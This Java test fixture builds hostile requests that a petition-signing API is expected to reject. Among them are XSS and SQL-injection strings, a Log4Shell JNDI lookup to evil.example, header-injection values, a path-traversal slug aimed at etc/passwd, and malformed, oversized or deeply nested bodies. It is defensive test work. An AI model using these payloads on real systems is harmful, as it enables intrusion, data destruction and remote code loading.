package org.petitionpipeline.intake;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

/**
 * A corpus of requests no signing endpoint may take: broken and mistyped JSON, oversized and deeply nested
 * bodies, invalid UTF-8, header injection, markup and SQL where only a name or code belongs, look-alike and
 * direction-changing characters, wrong media types and methods. Each is a whole request, built from a valid
 * signature with one thing wrong, so a 202 would mean that one thing got through.
 */
final class HostileInputs {

    static final String PETITION = "hostile";
    static final String PATH = "/api/petitions/" + PETITION + "/signatures";
    private static final String JSON = "application/json";
    private static final String VALID = IntakeFixtures.signature("Jane", "jane@example.org");

    /** One hostile request: what it is, and everything needed to send it. */
    record HostileRequest(String name, String method, String path, String contentType, byte[] body,
            Map<String, String> headers, boolean chunked) {

        @Override
        public String toString() {
            return name;
        }
    }

    private final List<HostileRequest> requests = new ArrayList<>();

    private HostileInputs() {
    }

    static Stream<HostileRequest> all() {
        HostileInputs corpus = new HostileInputs();
        corpus.brokenJson();
        corpus.wrongTypes();
        corpus.oversizedFields();
        corpus.controlAndDirectionCharacters();
        corpus.markupAndSqlWhereTheyDoNotBelong();
        corpus.undeliverableEmails();
        corpus.invalidUtf8();
        corpus.hugeAndDeepBodies();
        corpus.wrongMediaTypesAndMethods();
        corpus.botsAndForgedFields();
        return corpus.requests.stream();
    }

    private void json(String name, String body) {
        requests.add(new HostileRequest(name, "POST", PATH, JSON, body.getBytes(StandardCharsets.UTF_8), Map.of(), false));
    }

    /** The valid signature with one field's JSON value replaced. */
    private void withField(String name, String field, String currentJson, String hostileJson) {
        if (!VALID.contains(currentJson)) {
            throw new IllegalArgumentException(field + " is not " + currentJson + " in the fixture");
        }
        json(name, VALID.replace(currentJson, hostileJson));
    }

    private void withGivenName(String name, String value) {
        withField(name, "given_name", "\"given_name\": \"Jane\"", "\"given_name\": " + quoted(value));
    }

    private void withEmail(String name, String value) {
        withField(name, "address", "\"address\": \"jane@example.org\"", "\"address\": " + quoted(value));
    }

    private void brokenJson() {
        for (int length = 1; length < VALID.length(); length += VALID.length() / 40) {
            json("truncated after " + length + " characters", VALID.substring(0, length));
        }
        json("trailing comma", VALID.replace("\"comments\"", ",\"comments\""));
        json("single quotes", VALID.replace('"', '\''));
        json("unquoted keys", VALID.replace("\"comments\":", "comments:"));
        json("comment in JSON", "/* hi */" + VALID);
        json("two documents", VALID + VALID);
        json("NaN literal", VALID.replace("true", "NaN"));
        json("bare string", "\"Jane\"");
        json("bare number", "42");
        json("null document", "null");
        json("empty array", "[]");
        json("array of signatures", "[" + VALID + "]");
        json("empty body", "");
        json("whitespace body", "   \n\t ");
        json("duplicate key", VALID.replace("\"comments\": \"Enough is enough.\"",
                "\"comments\": \"a\", \"comments\": \"b\""));
        json("duplicate person", VALID.replaceFirst("\\{", "{\"person\": {\"given_name\": \"Eve\"},"));
    }

    private void wrongTypes() {
        for (String value : List.of("\"Jane\"", "42", "[]", "true")) {
            json("person is " + value, "{\"person\": " + value + "}");
        }
        for (String value : List.of("42", "true", "[\"Jane\"]", "{\"first\": \"Jane\"}", "4.2")) {
            json("given_name as JSON " + value, VALID.replace("\"given_name\": \"Jane\"", "\"given_name\": " + value));
        }
        for (String value : List.of("\"jane@example.org\"", "{\"address\": \"jane@example.org\"}", "42", "[42]",
                "[[{\"address\": \"jane@example.org\"}]]")) {
            json("email_addresses is " + value, VALID.replace("[{\"address\": \"jane@example.org\"}]", value));
        }
        for (String value : List.of("\"yes\"", "1", "\"true\"", "[true]", "{}")) {
            json("email_updates is " + value, VALID.replace("\"email_updates\": true", "\"email_updates\": " + value));
        }
        json("consent is a boolean", VALID.replace("{\"email_updates\": true}", "true"));
        json("postal_addresses is an object", VALID.replace("[{\"postal_code\": \"20500\", \"country\": \"us\"}]",
                "{\"postal_code\": \"20500\"}"));
        json("form_rendered_at is a word", VALID.replaceFirst("\\{", "{\"form_rendered_at\": \"yesterday\","));
        json("form_rendered_at is an object", VALID.replaceFirst("\\{", "{\"form_rendered_at\": {},"));
        json("comments is an array", VALID.replace("\"Enough is enough.\"", "[\"Enough\"]"));
        json("no email at all", VALID.replace("[{\"address\": \"jane@example.org\"}]", "[]"));
        json("null email", VALID.replace("[{\"address\": \"jane@example.org\"}]", "[null]"));
        json("no person", VALID.replaceFirst("\"person\"", "\"persona\""));
    }

    private void oversizedFields() {
        for (int length : List.of(101, 1_000, 10_000)) {
            withGivenName("given_name of " + length + " characters", "J".repeat(length));
            json("family_name of " + length + " characters", VALID.replace("\"Doe\"", quoted("D".repeat(length))));
        }
        json("comments of 2001 characters", VALID.replace("\"Enough is enough.\"", quoted("c".repeat(2_001))));
        withEmail("local part of 65 characters", "j".repeat(65) + "@example.org");
        withEmail("address of 264 characters", "jane@" + "d".repeat(63) + "." + "e".repeat(63) + "." + "f".repeat(63)
                + "." + "g".repeat(63) + ".org");
        json("postal code of 17 characters", VALID.replace("\"20500\"", quoted("2".repeat(17))));
        json("referrer url of 2001 characters", VALID.replace("\"https://news.example/story\"",
                quoted("https://news.example/" + "p".repeat(2_000))));
        json("idempotency key of 256 characters", VALID.replaceFirst("\\{", "{\"idempotency_key\": "
                + quoted("k".repeat(256)) + ","));
    }

    private void controlAndDirectionCharacters() {
        Map<String, String> characters = Map.ofEntries(
                Map.entry("CR LF", "\r\n"), Map.entry("LF", "\n"), Map.entry("CR", "\r"), Map.entry("NUL", "\u0000"),
                Map.entry("tab", "\t"), Map.entry("escape", "\u001b"), Map.entry("DEL", "\u007f"),
                Map.entry("NEL", "\u0085"), Map.entry("line separator", "\u2028"),
                Map.entry("paragraph separator", "\u2029"), Map.entry("right-to-left override", "\u202e"),
                Map.entry("left-to-right isolate", "\u2066"), Map.entry("backspace", "\b"));
        characters.forEach((what, character) -> {
            withGivenName(what + " in given_name", "Jane" + character + "Bcc: all@example.org");
            json(what + " in family_name", VALID.replace("\"Doe\"", quoted("Doe" + character + "X")));
            json(what + " in comments", VALID.replace("\"Enough is enough.\"", quoted("Enough" + character + "now")));
            withEmail(what + " in the email address", "jane@example.org" + character + "Bcc: all@example.org");
            json(what + " in the postal code", VALID.replace("\"20500\"", quoted("205" + character + "00")));
            json(what + " in the referrer url", VALID.replace("\"https://news.example/story\"",
                    quoted("https://news.example/" + character + "story")));
        });
    }

    private void markupAndSqlWhereTheyDoNotBelong() {
        List<String> payloads = List.of("<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
                "'; DROP TABLE signature; --", "\" OR \"1\"=\"1", "{{7*7}}", "${jndi:ldap://evil.example/a}",
                "javascript:alert(1)", "http://spam.example/buy-now");
        for (String payload : payloads) {
            withGivenName("name: " + payload, payload);
            withEmail("email: " + payload, payload);
            json("postal code: " + payload, VALID.replace("\"20500\"", quoted(payload)));
            json("country: " + payload, VALID.replace("\"us\"", quoted(payload)));
        }
        json("referrer url: javascript", VALID.replace("\"https://news.example/story\"", "\"javascript:alert(1)\""));
        json("referrer url: data", VALID.replace("\"https://news.example/story\"", "\"data:text/html,<script>x</script>\""));
        json("referrer url: not a url", VALID.replace("\"https://news.example/story\"", "\"<script>alert(1)</script>\""));
    }

    private void undeliverableEmails() {
        for (String address : List.of("jane", "jane@", "@example.org", "jane@@example.org", "jane@example",
                "jane@localhost", ".jane@example.org", "jane.@example.org", "ja..ne@example.org",
                "jane@example..org", "jane@-example.org", "jane@example.org-", "jane@[127.0.0.1]",
                "\"jane doe\"@example.org", "Jane <jane@example.org>", "jane@example.org, eve@example.org",
                "mailto:jane@example.org", "jane doe@example.org", "jane@exa mple.org", "jane😀@example.org",
                "jane@example.org;eve@example.org", "jane%eve@example.org@example.org")) {
            withEmail("undeliverable address " + address, address);
        }
    }

    private void invalidUtf8() {
        byte[][] sequences = {{(byte) 0xC3, 0x28}, {(byte) 0xFF}, {(byte) 0xC0, (byte) 0xAF},
                {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80},
                {(byte) 0xE2, (byte) 0x82}, {(byte) 0x80}, {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}};
        for (byte[] sequence : sequences) {
            String[] parts = VALID.split("Jane", 2);
            byte[] body = concat(parts[0].getBytes(StandardCharsets.UTF_8), sequence, parts[1].getBytes(StandardCharsets.UTF_8));
            requests.add(new HostileRequest("invalid UTF-8 " + hex(sequence) + " in given_name", "POST", PATH, JSON, body,
                    Map.of(), false));
        }
    }

    private void hugeAndDeepBodies() {
        String megabyte = VALID.replace("\"Enough is enough.\"", quoted("x".repeat(1 << 20)));
        json("1 MB JSON body", megabyte);
        requests.add(new HostileRequest("1 MB JSON body without a length (chunked)", "POST", PATH, JSON,
                megabyte.getBytes(StandardCharsets.UTF_8), Map.of(), true));
        requests.add(new HostileRequest("1 MB form body", "POST", PATH, "application/x-www-form-urlencoded",
                ("given_name=Jane&email=jane%40example.org&comments=" + "x".repeat(1 << 20)).getBytes(StandardCharsets.UTF_8),
                Map.of(), false));
        json("17 KB JSON body", VALID.replace("\"Enough is enough.\"", quoted("x".repeat(17_000))));
        for (int depth : List.of(100, 1_001, 5_000)) {
            json("arrays nested " + depth + " deep", VALID.replace("\"Enough is enough.\"",
                    "[".repeat(depth) + "]".repeat(depth)));
            json("objects nested " + depth + " deep", VALID.replace("\"Enough is enough.\"",
                    "{\"a\":".repeat(depth) + "1" + "}".repeat(depth)));
        }
        json("1,500 email addresses", VALID.replace("[{\"address\": \"jane@example.org\"}]",
                "[" + String.join(",", Collections.nCopies(1_500, "{\"address\": \"x\"}")) + "]"));
    }

    private void wrongMediaTypesAndMethods() {
        byte[] body = VALID.getBytes(StandardCharsets.UTF_8);
        for (String type : List.of("text/plain", "application/xml", "text/html", "image/png", "application/octet-stream",
                "multipart/form-data; boundary=x", "application/javascript", "application/json-patch+json")) {
            requests.add(new HostileRequest("JSON sent as " + type, "POST", PATH, type, body, Map.of(), false));
        }
        requests.add(new HostileRequest("JSON sent as a form", "POST", PATH, "application/x-www-form-urlencoded", body,
                Map.of(), false));
        requests.add(new HostileRequest("form without fields", "POST", PATH, "application/x-www-form-urlencoded",
                "&&=&".getBytes(StandardCharsets.UTF_8), Map.of(), false));
        for (String method : List.of("PUT", "DELETE", "PATCH")) {
            requests.add(new HostileRequest(method + " on the signatures", method, PATH, JSON, body, Map.of(), false));
        }
        for (String slug : List.of("..%2F..%2Fetc%2Fpasswd", "nope'%20OR%201=1", "%3Cscript%3E", "HOSTILE")) {
            requests.add(new HostileRequest("petition slug " + slug, "POST", "/api/petitions/" + slug + "/signatures",
                    JSON, body, Map.of(), false));
        }
    }

    private void botsAndForgedFields() {
        json("honeypot filled", VALID.replaceFirst("\\{", "{\"homepage\": \"http://spam.example\","));
        json("form rendered in the future", VALID.replaceFirst("\\{", "{\"form_rendered_at\": \"2999-01-01T00:00:00Z\","));
        json("form rendered an hour from now", VALID.replaceFirst("\\{", "{\"form_rendered_at\": \""
                + Instant.now().plusSeconds(3_600) + "\","));
        json("consent to a wording that does not exist", VALID.replace("\"email_updates\": true",
                "\"email_updates\": true, \"text_version\": \"forged\""));
        requests.add(new HostileRequest("idempotency key with spaces", "POST", PATH, JSON,
                VALID.getBytes(StandardCharsets.UTF_8), Map.of("Idempotency-Key", "not a key"), false));
        requests.add(new HostileRequest("origin not allowed to embed", "POST", "/api/petitions/hostile-restricted/signatures",
                JSON, VALID.getBytes(StandardCharsets.UTF_8), Map.of("Origin", "https://evil.example"), false));
    }

    private static String quoted(String value) {
        StringBuilder json = new StringBuilder("\"");
        for (char c : value.toCharArray()) {
            switch (c) {
                case '"' -> json.append("\\\"");
                case '\\' -> json.append("\\\\");
                default -> {
                    if (c < 0x20 || c == 0x7f || c >= 0x80 && c < 0xa0 || c >= 0x2028 && c <= 0x2029) {
                        json.append(String.format("\\u%04x", (int) c));
                    } else {
                        json.append(c);
                    }
                }
            }
        }
        return json.append('"').toString();
    }

    private static byte[] concat(byte[]... parts) {
        int length = Stream.of(parts).mapToInt(part -> part.length).sum();
        byte[] all = new byte[length];
        int at = 0;
        for (byte[] part : parts) {
            System.arraycopy(part, 0, all, at, part.length);
            at += part.length;
        }
        return all;
    }

    private static String hex(byte[] bytes) {
        StringBuilder text = new StringBuilder();
        for (byte b : bytes) {
            text.append(String.format("%02X", b));
        }
        return text.toString();
    }
}
